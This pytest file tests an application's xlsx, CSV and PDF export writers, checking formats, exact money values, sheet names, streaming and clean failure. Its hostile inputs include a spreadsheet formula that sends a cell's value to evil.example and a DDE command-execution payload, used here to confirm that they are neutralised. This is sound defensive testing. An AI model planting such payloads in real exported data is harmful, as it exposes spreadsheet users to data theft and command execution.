"""The xlsx, CSV and PDF writers, each file read back the way a user's program reads it: openpyxl
for the workbook, the csv module for CSV and zips of them, pypdf for the PDF's text. Books are
built here from plain data; hostile data (formula-like names, control characters, 10,000-character
names, non-Latin text, empty sheets, a row source that fails half-way) gets a file that opens or
no file at all."""

from __future__ import annotations

import csv
import io
import random
import re
import tempfile
import zipfile
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from pypdf import PdfReader
from reportlab.pdfbase.pdfmetrics import stringWidth

from app.exports import cells, pdf_writer
from app.exports.book import Book, Column, Kind, Sheet, Typed
from app.exports.files import write_book
from app.exports.pdf_fonts import fonts
from kernel.errors import InvalidInput

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tTab lead",
            "\rCR lead", "=1+1"]
CYRILLIC = "Пельмени домашние"
CHINESE = "绿茶中文产品"
ARABIC = "قهوة عربية"

LINE_COLUMNS = [Column("Name", width=30), Column("Net", Kind.MONEY), Column("Qty", Kind.QTY),
                Column("Margin %", Kind.PERCENT), Column("Count", Kind.INT), Column("Day", Kind.DATE),
                Column("Time (UTC)", Kind.DATETIME), Column("Data", Kind.JSON)]


def line(name: Any = "Tea", net: Any = 1250, qty: Any = 1500, margin: Any = 2534, count: Any = 3,
         day: Any = date(2026, 3, 1), at: Any = datetime(2026, 3, 1, 14, 5, 9), data: Any = '{"a": 1}') -> tuple:
    return (name, net, qty, margin, count, day, at, data)


def summary() -> Sheet:
    return Sheet("Summary", [Column("Metric", width=28), Column("Value")],
                 [("Revenue", Typed(Kind.MONEY, 123456)), ("Refunds", Typed(Kind.MONEY, 0)),
                  ("Sales", Typed(Kind.INT, 42)), ("Margin", Typed(Kind.PERCENT, 2534)),
                  ("First day", Typed(Kind.DATE, date(2026, 3, 1))), ("Unknown cost", Typed(Kind.MONEY, None))])


def book(*sheets: Sheet, exponent: int = 2, currency: str = "EUR") -> Book:
    return Book(title="Sales export", store="Store 1 Berlin", currency=currency, exponent=exponent,
                filters={"from": date(2026, 3, 1), "to": date(2026, 3, 31), "till": None, "active": True},
                meta=[("Chain verified", "yes, seq 1 to 480")], sheets=list(sheets),
                generated=datetime(2026, 4, 1, 8, 30, tzinfo=UTC))


def lines_sheet(rows: Sequence[tuple] | Iterator[tuple], name: str = "Line Items", wide: bool = False) -> Sheet:
    return Sheet(name, LINE_COLUMNS, rows, wide=wide)


def read_xlsx(path: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(path)


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def pdf_pages(path: Path) -> list[str]:
    return [page.extract_text() for page in PdfReader(path).pages]


# --- xlsx ---------------------------------------------------------------------------------------

def test_xlsx_writes_numbers_as_numbers_with_formats_dates_zeros_and_empties(tmp_path: Path) -> None:
    rows = [line(), line("Zero", 0, 0, 0, 0), line("Unknown", None, None, None, None, None, None, None),
            line("Refund", -1250, -1000, -500, -1)]
    out = tmp_path / "s.xlsx"
    written = write_book(book(summary(), lines_sheet(rows)), "xlsx", out)
    assert written.rows == {"Summary": 6, "Line Items": 4}
    wb = read_xlsx(out)
    assert wb.sheetnames == ["Summary", "Line Items"]
    ws = wb["Line Items"]
    assert [c.value for c in ws[1]] == [c.title for c in LINE_COLUMNS]
    tea, zero, unknown, refund = ws[2], ws[3], ws[4], ws[5]
    assert tea[1].value == 12.5 and tea[1].data_type == "n" and tea[1].number_format == '#,##0.00 "EUR"'
    assert tea[2].value == 1.5 and tea[2].number_format == "0.000"
    assert tea[3].value == 0.2534 and tea[3].number_format == "0.00%"
    assert tea[4].value == 3 and isinstance(tea[4].value, int)
    assert tea[5].value == datetime(2026, 3, 1) and tea[5].is_date and tea[5].number_format == "yyyy-mm-dd"
    assert tea[6].value == datetime(2026, 3, 1, 14, 5, 9) and tea[6].is_date
    assert [c.value for c in zero[1:5]] == [0, 0, 0, 0] and all(c.data_type == "n" for c in zero[1:5])
    assert [c.value for c in unknown[1:]] == [None] * 7
    assert [c.value for c in refund[1:5]] == [-12.5, -1.0, -0.05, -1]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:H5"
    assert ws.column_dimensions["A"].width == 30
    assert ws.column_dimensions["B"].width == cells.width(LINE_COLUMNS[1])


def test_xlsx_typed_cells_take_their_own_kind(tmp_path: Path) -> None:
    out = tmp_path / "s.xlsx"
    write_book(book(summary()), "xlsx", out)
    ws = read_xlsx(out)["Summary"]
    values = {row[0].value: row[1] for row in ws.iter_rows(min_row=2)}
    assert values["Revenue"].value == 1234.56 and values["Revenue"].number_format == '#,##0.00 "EUR"'
    assert values["Refunds"].value == 0 and values["Refunds"].data_type == "n"
    assert values["Sales"].value == 42
    assert values["Margin"].value == 0.2534 and values["Margin"].number_format == "0.00%"
    assert values["First day"].value == datetime(2026, 3, 1)
    assert values["Unknown cost"].value is None
    assert ws.auto_filter.ref == "A1:B7"


@pytest.mark.parametrize("exponent", [0, 2, 3])
def test_xlsx_money_reads_back_exact_to_the_minor_unit(tmp_path: Path, exponent: int) -> None:
    rng = random.Random(exponent)
    amounts = [0, 1, -1, 5, 99, 10**exponent - 1, 10**15 - 1, -(10**15 - 1), 123456789012345, 900719925474099]
    amounts += [rng.randint(-10**15, 10**15) for _ in range(3000)]
    amounts += [rng.randint(-10**7, 10**7) for _ in range(3000)]
    sheet = Sheet("Money", [Column("Amount", Kind.MONEY)], [(a,) for a in amounts])
    out = tmp_path / "m.xlsx"
    currency = {0: "JPY", 2: "EUR", 3: "KWD"}[exponent]
    write_book(book(sheet, exponent=exponent, currency=currency), "xlsx", out)
    back = [row[0].value for row in read_xlsx(out)["Money"].iter_rows(min_row=2)]
    assert len(back) == len(amounts)
    for minor, value in zip(amounts, back, strict=True):
        assert isinstance(value, int | float)
        assert Decimal(repr(value)).scaleb(exponent) == minor, (minor, value)
    fmt = read_xlsx(out)["Money"]["A2"].number_format
    assert fmt == {0: '#,##0 "JPY"', 2: '#,##0.00 "EUR"', 3: '#,##0.000 "KWD"'}[exponent]


def test_xlsx_formula_like_text_is_stored_as_text(tmp_path: Path) -> None:
    names = [*FORMULAS, "#N/A", "#DIV/0!"]
    rows = [line(name) for name in names]
    out = tmp_path / "f.xlsx"
    write_book(book(lines_sheet(rows)), "xlsx", out)
    ws = read_xlsx(out)["Line Items"]
    cells_ = [row[0] for row in ws.iter_rows(min_row=2)]
    # XML reads a carriage return as a line feed (line-end normalisation); the text is otherwise kept
    assert [c.value for c in cells_] == [n.replace("\r", "\n") for n in names]
    assert all(c.data_type == "s" for c in cells_)
    with zipfile.ZipFile(out) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert 't="e"' not in xml


def test_xlsx_hostile_text_is_cleaned_and_capped(tmp_path: Path) -> None:
    rows = [line("Bread\x07\x00 loaf\x1b\ufffe"), line("x" * 40_000), line(CYRILLIC), line(CHINESE),
            line(ARABIC), line(12345), line(data={"lines": [{"sku": "A1"}], "note": "=cmd|' /C calc'!A0"})]
    out = tmp_path / "h.xlsx"
    write_book(book(lines_sheet(rows)), "xlsx", out)
    ws = read_xlsx(out)["Line Items"]
    got = [row[0].value for row in ws.iter_rows(min_row=2)]
    assert got[0] == "Bread loaf"
    assert got[1] == "x" * cells.EXCEL_CELL_CHARS
    assert got[2:5] == [CYRILLIC, CHINESE, ARABIC]
    assert got[5] == "12345" and ws["A7"].data_type == "s"
    data = ws["H8"]
    assert data.data_type == "s" and '"note": "=cmd' in data.value and data.value.startswith("{\n")


def test_xlsx_sheet_names_are_made_valid_and_unique(tmp_path: Path) -> None:
    long = "Credit Transactions of every customer in 2026"
    sheets = [Sheet(n, [Column("A")], [("x",)]) for n in ("Sum/mary?", long, long, "[History]", "History", "'")]
    out = tmp_path / "n.xlsx"
    written = write_book(book(*sheets), "xlsx", out)
    names = read_xlsx(out).sheetnames
    assert names[0] == "Sum_mary_"
    assert names[1] == long[:31] and names[2] == long[:27] + " (2)"
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in names)
    assert len({n.casefold() for n in names}) == len(names)
    assert "history" not in {n.casefold() for n in names}
    assert list(written.rows) == ["Sum/mary?", long, "[History]", "History", "'"]  # one key per distinct name


def test_xlsx_empty_sheet_has_headers_and_a_filter(tmp_path: Path) -> None:
    out = tmp_path / "e.xlsx"
    written = write_book(book(summary(), lines_sheet([])), "xlsx", out)
    assert written.rows["Line Items"] == 0
    ws = read_xlsx(out)["Line Items"]
    assert ws.max_row == 1 and ws.auto_filter.ref == "A1:H1" and ws.freeze_panes == "A2"


# --- csv ----------------------------------------------------------------------------------------

def test_csv_plain_decimals_iso_dates_and_a_bom(tmp_path: Path) -> None:
    rows = [line(), line("Zero", 0, 0, 0, 0), line("Unknown", None, None, None, None, None, None, None),
            line("Refund", -1250, -1000, -5, -1), line("Big", 123456789012345, 1, 1, 10**12)]
    out = tmp_path / "l.csv"
    written = write_book(book(lines_sheet(rows)), "csv", out)
    assert written.rows == {"Line Items": 5}
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    got = read_csv(out)
    assert got[0] == [c.title for c in LINE_COLUMNS]
    assert got[1] == ["Tea", "12.50", "1.500", "25.34", "3", "2026-03-01", "2026-03-01 14:05:09", '{"a": 1}']
    assert got[2][1:5] == ["0.00", "0.000", "0.00", "0"]
    assert got[3] == ["Unknown", "", "", "", "", "", "", ""]
    assert got[4][1:5] == ["-12.50", "-1.000", "-0.05", "-1"]  # negative numbers are numbers: no quote
    assert got[5][1:5] == ["1234567890123.45", "0.001", "0.01", "1000000000000"]


@pytest.mark.parametrize(("exponent", "text"), [(0, "1250"), (3, "1.250")])
def test_csv_money_has_the_currency_decimals(tmp_path: Path, exponent: int, text: str) -> None:
    out = tmp_path / "l.csv"
    write_book(book(lines_sheet([line()]), exponent=exponent), "csv", out)
    assert read_csv(out)[1][1] == text


def test_csv_injection_rule_and_hostile_text(tmp_path: Path) -> None:
    rows = [line(name) for name in FORMULAS] + [line("Bread\x07\x00 loaf"), line("x" * 40_000), line(CHINESE),
                                                 line(ARABIC), line("a,b \"quoted\"\nsecond line")]
    out = tmp_path / "f.csv"
    write_book(book(lines_sheet(rows)), "csv", out)
    got = [r[0] for r in read_csv(out)[1:]]
    assert got[: len(FORMULAS)] == ["'" + name for name in FORMULAS]
    assert got[len(FORMULAS):] == ["Bread loaf", "x" * 40_000, CHINESE, ARABIC, 'a,b "quoted"\nsecond line']


def test_csv_of_several_sheets_is_a_zip_of_one_file_per_sheet(tmp_path: Path) -> None:
    out = tmp_path / "all.zip"
    written = write_book(book(summary(), lines_sheet([line(), line("=2+2")]), lines_sheet([], "Credit/Aging")),
                         "csv", out)
    assert written.rows == {"Summary": 6, "Line Items": 2, "Credit/Aging": 0}
    with zipfile.ZipFile(out) as zf:
        assert zf.namelist() == ["Summary.csv", "Line Items.csv", "Credit_Aging.csv"]
        assert zf.testzip() is None
        parsed = {n: list(csv.reader(io.StringIO(zf.read(n).decode("utf-8-sig")))) for n in zf.namelist()}
    assert parsed["Summary.csv"][1:] == [["Revenue", "1234.56"], ["Refunds", "0.00"], ["Sales", "42"],
                                         ["Margin", "25.34"], ["First day", "2026-03-01"], ["Unknown cost", ""]]
    assert parsed["Line Items.csv"][2][0] == "'=2+2"
    assert parsed["Credit_Aging.csv"] == [[c.title for c in LINE_COLUMNS]]


def test_csv_of_several_sheets_to_a_plain_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="zip"):
        write_book(book(summary(), lines_sheet([])), "csv", tmp_path / "x.csv")
    assert list(tmp_path.iterdir()) == []


# --- pdf ----------------------------------------------------------------------------------------

def test_pdf_first_page_header_on_every_page_and_page_numbers(tmp_path: Path) -> None:
    rows = [line(f"Item {i:04d}", net=i * 100_000 + 5) for i in range(400)]
    out = tmp_path / "s.pdf"
    written = write_book(book(summary(), lines_sheet(rows, wide=True)), "pdf", out)
    assert written.rows == {"Summary": 6, "Line Items": 400}
    reader = PdfReader(out)
    pages = [p.extract_text() for p in reader.pages]
    total = len(pages)
    assert total > 3
    first = pages[0]
    for text in ("Sales export", "Store 1 Berlin", "2026-04-01 08:30:00 UTC", "Currency: EUR",
                 "from 2026-03-01", "to 2026-03-31", "active yes", "Chain verified: yes, seq 1 to 480",
                 "Revenue", "1,234.56", "25.34%"):
        assert text in first, text
    for n, text in enumerate(pages, 1):
        assert re.search(rf"Page {n} of\s*{total}\b", text), text[:200]  # the total is a form of its own
    assert all("Margin" in text and "Time (UTC)" in text for text in pages[1:])  # the header, every page
    shown = "\n".join(pages)
    assert all(f"Item {i:04d}" in shown for i in range(400))
    assert "39,000.05" in shown and "399,000.05" in shown  # money grouped, with its decimals
    portrait, wide = reader.pages[0].mediabox, reader.pages[1].mediabox
    assert portrait.width < portrait.height and wide.width > wide.height


def test_pdf_money_is_right_aligned(tmp_path: Path) -> None:
    amounts = [5, 12345, 123456789, -77, 0]
    out = tmp_path / "r.pdf"
    write_book(book(lines_sheet([line(f"Item {i}", net=a) for i, a in enumerate(amounts)])), "pdf", out)
    ends: dict[str, float] = {}
    font = fonts().regular

    def visit(text: str, cm: Any, tm: Any, font_dict: Any, size: float) -> None:
        if text.strip() in {"0.05", "123.45", "1,234,567.89", "-0.77", "0.00"}:
            ends[text.strip()] = tm[4] * cm[0] + cm[4] + stringWidth(text.strip(), font, size * tm[0])

    PdfReader(out).pages[0].extract_text(visitor_text=visit)
    assert len(ends) == 5, ends
    assert max(ends.values()) - min(ends.values()) < 0.5


def test_pdf_hostile_text_fits_and_reads_back(tmp_path: Path) -> None:
    rows = [line("x" * 10_000), line(CYRILLIC), line(CHINESE), line(ARABIC), line(FORMULAS[0]),
            line("Bread\x07\x00 loaf <b>&amp;"), line(data={"lines": [{"sku": f"A{i}"} for i in range(200)]})]
    out = tmp_path / "h.pdf"
    written = write_book(book(lines_sheet(rows)), "pdf", out)
    assert written.rows == {"Line Items": 7}
    pages = pdf_pages(out)
    shown = squash("".join(pages))  # cells wrap: compare without the line breaks and spaces
    assert "x" * 100 in shown and "x" * (pdf_writer.TEXT_CHARS + 1) not in shown and pdf_writer.ELLIPSIS in shown
    assert len(pages) <= 3
    assert squash("Bread loaf <b>&amp;") in shown and squash(FORMULAS[0]) in shown
    if fonts().regular != "Helvetica":  # a font with Cyrillic and Arabic letters is on this machine
        assert squash(CYRILLIC) in shown
        # reportlab neither shapes nor reorders right-to-left text: the letters are there, in one order
        assert squash(ARABIC) in shown or squash(ARABIC)[::-1] in shown
    if fonts().fallback is not None:  # and one with Chinese
        assert CHINESE in shown


def squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


def test_pdf_empty_sheet_says_so(tmp_path: Path) -> None:
    out = tmp_path / "e.pdf"
    written = write_book(book(summary(), lines_sheet([])), "pdf", out)
    assert written.rows == {"Summary": 6, "Line Items": 0}
    pages = pdf_pages(out)
    assert "No rows for these filters." in pages[-1] and "Margin" in pages[-1]


def test_pdf_streams_many_rows_over_many_pages(tmp_path: Path) -> None:
    def rows() -> Iterator[tuple]:
        for i in range(3000):
            yield line(f"Item {i}", net=i)

    out = tmp_path / "big.pdf"
    seen: list[int] = []
    written = write_book(book(lines_sheet(rows(), wide=True)), "pdf", out, on_row=seen.append)
    assert written.rows == {"Line Items": 3000}
    assert seen == [1000, 2000, 3000]
    reader = PdfReader(out)
    total = len(reader.pages)
    assert total > 50
    last = reader.pages[-1].extract_text()
    assert re.search(rf"Page {total} of\s*{total}\b", last) and "Item 2999" in last


# --- every format -------------------------------------------------------------------------------

FORMATS = ["xlsx", "csv", "pdf"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_failing_row_source_leaves_no_file(tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def rows() -> Iterator[tuple]:
        for i in range(2500):
            if i == 1800:
                raise RuntimeError("the cursor went away")
            yield line(f"Item {i}")

    system_tmp = tmp_path / "system-tmp"  # where openpyxl streams each sheet before the save
    system_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_tmp))
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(RuntimeError, match="cursor"):
        write_book(book(summary(), lines_sheet(rows())), fmt, out / ("x.zip" if fmt == "csv" else f"x.{fmt}"))
    assert list(out.iterdir()) == []
    assert list(system_tmp.iterdir()) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_failed_export_keeps_the_file_it_would_replace(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"x.{fmt}"
    out.write_bytes(b"yesterday's export")
    with pytest.raises(ValueError, match="Sheet 'Line Items' row 2 column 'Net': a money cell holds float"):
        write_book(book(lines_sheet([line(), line(net=12.5)])), fmt, out)
    assert out.read_bytes() == b"yesterday's export"
    assert [p.name for p in tmp_path.iterdir()] == [out.name]


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_row_of_the_wrong_length_is_refused(tmp_path: Path, fmt: str) -> None:
    with pytest.raises(ValueError, match="row 1 has 3 values for 8 columns"):
        write_book(book(lines_sheet([("a", 1, 2)])), fmt, tmp_path / f"x.{fmt}")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_progress_is_reported_every_thousand_rows(tmp_path: Path, fmt: str) -> None:
    seen: list[int] = []
    sheets = [lines_sheet([line()] * 1500, "A"), lines_sheet([line()] * 1200, "B")]
    out = tmp_path / ("x.zip" if fmt == "csv" else f"x.{fmt}")
    write_book(book(*sheets), fmt, out, on_row=seen.append)
    assert seen == [1000, 1500, 2500, 2700]  # the rows written so far: each thousand and each sheet's end
